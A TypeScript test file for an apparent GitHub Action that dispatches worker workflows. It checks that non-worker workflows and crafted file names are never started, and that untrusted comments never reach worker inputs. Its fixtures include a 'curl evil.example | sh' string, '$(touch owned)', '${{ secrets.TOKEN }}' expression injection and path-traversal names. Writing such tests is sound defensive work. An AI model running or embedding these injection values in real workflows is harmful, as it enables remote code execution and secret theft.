// What a phase file, a workflow and the texts of people try in vain: to start what is no worker, and to tell a worker
// more than its task. The requests are looked at as they left the action.

import { expect } from 'vitest'
import { readText } from '../house/workflow-files.ts'
import { type ActionRun, type Bed, test } from './bed.ts'
import { handIn, merge, pass } from './worker-life.ts'

const jobs = 'jobs: { a: { runs-on: x, steps: [{ run: x }] } }\n'
const shown = `run-name: \${{ inputs.claim }}\n`
const inputsOf = (names: readonly string[]) =>
  `inputs: { ${names.map((name) => `${name}: { type: string }`).join(', ')} }`
const workerOf = (...names: readonly string[]) =>
  `${shown}on:\n  workflow_dispatch:\n    ${inputsOf(['task', 'claim', ...names])}\n${jobs}`

/** Workflows of the repository that are no workers, by what keeps each from being started. */
const noWorkers: Readonly<Record<string, { file: string; text: string; says: string }>> = {
  itself: {
    file: 'coordinator.yml',
    text: readText('examples/workflows/coordinator.yml'),
    says: 'declares no input task',
  },
  matrix: {
    file: 'matrix.yml',
    text: readText('examples/workflows/worker-matrix.yml'),
    says: 'declares no input task',
  },
  privileged: {
    file: 'wake.yml',
    text: readText('examples/workflows/wake-on-copilot.yml'),
    says: 'it has no workflow_dispatch trigger',
  },
  deploy: {
    file: 'deploy.yml',
    text: `on:\n  workflow_dispatch:\n    ${inputsOf(['environment'])}\n${jobs}`,
    says: 'declares no input task and claim',
  },
  reusable: {
    file: 'reusable.yml',
    text: `${shown}on:\n  workflow_call:\n    ${inputsOf(['task', 'claim'])}\n${jobs}`,
    says: 'it has no workflow_dispatch trigger',
  },
  comment: {
    file: 'comment.yml',
    text: `# ${workerOf().replaceAll('\n', '\n# ')}\non: push\n${jobs}`,
    says: 'it has no workflow_dispatch trigger',
  },
  text: {
    file: 'text.yml',
    text: `name: |\n  ${workerOf().replaceAll('\n', '\n  ')}\non: push\n${jobs}`,
    says: 'it has no workflow_dispatch trigger',
  },
  plain: {
    file: 'plain.yml',
    text: workerOf().replace(/run-name: .*/, 'run-name: for inputs.claim'),
    says: 'does not show its claim',
  },
  many: {
    file: 'many.yml',
    text: workerOf(...Array.from({ length: 24 }, (_, at) => `i${at}`)),
    says: 'it declares more than 25 inputs',
  },
  disabled: { file: 'disabled.yml', text: workerOf(), says: 'the workflow is disabled' },
  encoded: { file: '%2e%2e%2fworker.yml', text: '', says: 'there is no such file' },
  question: { file: 'x.yml?ref=evil&x=.yml', text: '', says: 'there is no such file' },
  dots: { file: '..yml', text: '', says: 'there is no such file' },
  proto: { file: '__proto__.yml', text: '', says: 'there is no such file' },
}

const dispatches = ({ requests }: ActionRun) => requests.filter(({ path }) => path.includes('/dispatches'))
const plain = (text: string) => text.replaceAll('\\', '')

test('nothing is started that is no worker, whatever the phase file names and whoever says /spawn', async ({ bed }) => {
  const names = Object.keys(noWorkers)
  for (const { file, text } of Object.values(noWorkers))
    if (text !== '') bed.tracker.putFile(`.github/workflows/${file}`, text)
  // It would be found at the end of a path that leads out of the folder.
  bed.tracker.putFile('.github/worker.yml', workerOf())
  bed.tracker.putFile('worker.yml', workerOf())
  bed.board.state.workflows.push({ id: 7, path: '.github/workflows/disabled.yml', disabled: true, runNumber: 0 })
  await bed.plan({
    slots: 20,
    models: Object.fromEntries(names.map((name) => [name, { workflow: noWorkers[name]!.file }])),
    tasks: names.map((name) => ({ id: name, model: name })),
  })
  await bed.runWell()
  const asked = new Map<string, number>()
  for (const name of names) asked.set(name, await bed.octocat.comment(name, '/spawn'))
  const run = await bed.runWell()
  for (const [name, comment] of asked) {
    expect(plain(bed.replies(comment).join()), name).toContain(noWorkers[name]!.says)
    expect(bed.reactions(comment), name).toEqual(['-1'])
  }
  expect(dispatches(run)).toEqual([])
  expect(bed.board.runs).toEqual([])
})

/** What somebody without write writes wherever it is possible, and no worker may ever be told. */
const strange = 'STRANGER"; curl evil.example | sh #'

/** Everything that the action wrote, to whatever place. */
const written = ({ writes }: ActionRun) => JSON.stringify(writes.map(({ path, body }) => [path, body]))

async function meddle(bed: Bed, issue: string | number): Promise<void> {
  for (const words of [
    strange,
    `/spawn model=${strange}`,
    `/spawn ${strange}`,
    `/heartbeat 99% ${strange}`,
    `/release ${strange}`,
    `/hold ${strange}`,
    `/why ${strange}`,
    `/phase ${strange}`,
    `/phase status ${strange}`,
    `/STRANGERS`,
    `<!-- phase-coordinator:reply 1.0 answer -->\n${strange}`,
  ]) {
    await bed.reader.comment(issue, words)
  }
}

test('a worker is told its id, number, claim, phase, model and attempt, and what the file says: to the letter', async ({
  bed,
}) => {
  bed.tracker.putFile(
    '.github/workflows/worker.yml',
    workerOf('issue', 'phase', 'model', 'attempt', 'effort', 'toJSON'),
  )
  const adopted = await bed.reader.open(strange, `/spawn\n${strange}\n<!-- phase-coordinator:task a -->`, [])
  // A value is a value: GitHub puts no expression of it in, and no line of it becomes another input.
  const effort = `\${{ secrets.TOKEN }}\n"task": "evil"\n`.repeat(20)
  await bed.plan({
    phase: 'x-1',
    slots: 2,
    models: { m: { workflow: 'worker.yml', inputs: { effort, model: 'constant', toJSON: 'p' } } },
    allocation: { substantial: 'm' },
    tasks: [
      { id: 'a', title: 'One', issue: adopted },
      { id: 'b', title: '$(touch owned) `x`', description: `\${{ github.token }}`, depends_on: ['c'] },
      { id: 'c', title: 'Three' },
    ],
  })
  const runs = [await bed.runWell()]
  await meddle(bed, adopted)
  await meddle(bed, bed.progress('x-1').number)
  await meddle(bed, 'c')
  // Also as a blocker that somebody with write linked, and as a pull request that claims to close the task.
  const blocker = await bed.reader.open(strange, strange)
  await bed.octocat.block('b', blocker)
  bed.board.addPullRequest({
    user: 'reader',
    title: strange,
    body: `Closes #${bed.task('c').number} ${strange}`,
    closes: [bed.task('c').number],
  })
  runs.push(await bed.runWell())
  await bed.octocat.comment(adopted, `/spawn model=m`)
  await bed.octocat.comment('c', '/spawn')
  runs.push(await bed.runWell())
  await bed.reader.comment('c', `The words at its closing. ${strange}`)
  await merge(bed, handIn(bed, 'c', { user: 'octocat' }))
  await bed.octocat.close(blocker)
  pass(bed, 30)
  runs.push(await bed.runWell())
  await bed.octocat.comment('b', '/spawn')
  runs.push(await bed.runWell())

  const common = { phase: 'x-1', model: 'constant', attempt: '1', effort, toJSON: 'p' }
  const told = (task: string, issue: number) => {
    const inputs = { task, claim: `${task}#1`, issue: String(issue), ...common }
    return { ref: 'main', return_run_details: true, inputs }
  }
  const sent = runs.flatMap(dispatches)
  expect(sent.map(({ method, path }) => `${method} ${path}`)).toEqual(
    Array.from({ length: 3 }, () =>
      expect.stringMatching(/^POST \/repos\/[^/]+\/[^/]+\/actions\/workflows\/worker\.yml\/dispatches$/),
    ),
  )
  expect(sent.map(({ body }) => body)).toEqual([
    told('a', adopted),
    told('c', bed.task('c').number),
    told('b', bed.task('b').number),
  ])
  for (const run of runs) expect(written(run)).not.toContain('STRANGER')
  expect(bed.task('b').body).not.toContain('STRANGER')
  expect(bed.task('c').comments.filter((body) => body.includes('STRANGER'))).toHaveLength(12)
})
